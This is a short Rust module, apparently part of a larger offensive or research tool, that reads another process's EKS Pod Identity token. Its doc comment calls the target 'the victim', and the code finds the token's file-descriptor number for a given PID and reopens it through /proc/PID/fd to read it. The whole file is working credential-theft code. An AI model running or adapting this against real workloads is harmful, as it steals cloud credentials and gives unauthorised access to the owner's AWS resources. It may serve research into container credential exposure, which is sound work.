//! The victim's open descriptor of its token is opened again, through its link in `/proc/PID/fd`.

use std::fs::File;

use anyhow::{Context, Result};

use crate::{common::read, pidfd_getfd::number_of};

pub fn run(args: &[String]) -> Result<()> {
    let pid = args.first().context("no pid")?;
    let number = number_of(pid, "eks-pod-identity-token")?;
    read(File::open(format!("/proc/{pid}/fd/{number}"))?)
}
